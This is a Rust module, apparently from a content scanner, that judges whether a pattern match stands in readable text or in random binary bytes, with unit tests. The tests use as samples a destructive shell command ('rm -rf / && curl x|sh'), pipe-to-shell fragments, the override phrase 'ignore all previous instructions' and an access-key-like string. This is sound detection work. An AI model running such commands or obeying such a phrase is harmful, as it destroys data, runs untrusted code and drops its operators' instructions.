//! Whether a match stands among text, or is a row of bytes that happens to look like something.
//!
//! Images, archives and whatever is encrypted are rows of any bytes, and short patterns match in them by chance: among
//! random bytes the catalog finds something every 600 KB. Text is not like that anywhere: what people, programs or
//! models read is UTF-8 before and behind a match, or at least for as long as the match itself is.

use std::ops::Range;

/// Bytes on either side of a match that are examined.
const AROUND_BYTES: usize = 64;

/// A match of this length that is text is no chance.
const MATCH_BYTES_MIN: usize = 16;

/// Nor is a shorter one in a row of text of this length: it happens once in 300 GB of random bytes.
const ROW_BYTES_MIN: usize = 24;

/// Percent of the bytes around it that are text where a match is in text. Of random bytes two in five are.
const TEXT_PERCENT_MIN: usize = 75;

/// Whether the match at `span` is part of a row of text, or has mostly text around it.
pub(super) fn are_text(bytes: &[u8], span: Range<usize>) -> bool {
    let end = bytes.len().min(span.end + AROUND_BYTES);
    let around = span.start.saturating_sub(AROUND_BYTES).min(end)..end;
    let mut seen = Rows {
        span,
        at: around.start,
        row: around.start,
        text: 0,
        found: false,
    };
    let len = around.len();
    for chunk in bytes[around].utf8_chunks() {
        let mut before = '\0';
        for letter in chunk.valid().chars() {
            // Letters of UTF-16 have a zero byte beside them.
            let is_half = letter == '\0' && matches!(before, ' '..='~');
            seen.take(letter.len_utf8(), is_text(letter) || is_half);
            before = letter;
        }
        seen.take(chunk.invalid().len(), false);
    }
    seen.end_row();
    seen.found || seen.text * 100 >= len * TEXT_PERCENT_MIN
}

fn is_text(letter: char) -> bool {
    !letter.is_control() || matches!(letter, '\t' | '\n' | '\r')
}

/// A walk over bytes that counts text and remembers where a row of it began.
struct Rows {
    span: Range<usize>,
    at: usize,
    row: usize,
    text: usize,
    /// A row that is long enough touches the match.
    found: bool,
}

impl Rows {
    fn take(&mut self, len: usize, is_text: bool) {
        if len == 0 {
            return;
        }
        if is_text {
            self.text += len;
        } else {
            self.end_row();
            self.row = self.at + len;
        }
        self.at += len;
    }

    fn end_row(&mut self) {
        let touches = self.row < self.span.end && self.span.start < self.at;
        let holds = self.row <= self.span.start && self.span.end <= self.at;
        self.found |= touches && self.at - self.row >= ROW_BYTES_MIN
            || holds && self.span.len() >= MATCH_BYTES_MIN;
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::noise;
    use super::are_text;

    fn between(before: &[u8], text: &[u8], behind: &[u8]) -> bool {
        let all = [before, text, behind].concat();
        are_text(&all, before.len()..before.len() + text.len())
    }

    #[test]
    fn a_short_match_among_any_bytes_is_chance() {
        for text in [&b";sh"[..], b"|bash ", b"\xf0\x9f\x94\x91"] {
            assert!(
                !between(&noise(500), text, &noise(500)),
                "{}",
                text.escape_ascii()
            );
        }
        assert!(!between(&[0; 100], b"; sh", &[0; 100]));
    }

    #[test]
    fn what_is_written_out_among_any_bytes_is_text() {
        for text in ["ignore all previous instructions", "AKIAQ3EGRIJZ4KX7PLMN"] {
            assert!(between(&noise(500), text.as_bytes(), &noise(500)), "{text}");
        }
        let wide: Vec<u8> = "rm -rf / && curl x|sh"
            .bytes()
            .flat_map(|byte| [byte, 0])
            .collect();
        assert!(between(&noise(500), &wide, &noise(500)), "UTF-16");
    }

    #[test]
    fn a_short_match_in_text_is_in_text_whatever_bytes_stand_beside_it() {
        let text =
            b"They said nothing of it, and went on with what they had been doing all day long: ";
        assert!(between(text, b"rm -rf /", text));
        let broken = [&text[..], b"\xff"].concat();
        assert!(between(
            &broken,
            b"rm -rf /",
            &[b"\xfe", &text[..]].concat()
        ));
        assert!(between(b"", b"; sh", b""));
        assert!(between(
            "это было давно, ".as_bytes(),
            b"; sh",
            "и никто не помнит".as_bytes()
        ));
        assert!(between(b"ls\0cat\0grep\0", b"; sh", b"\0echo\0printf\0"));
    }
}
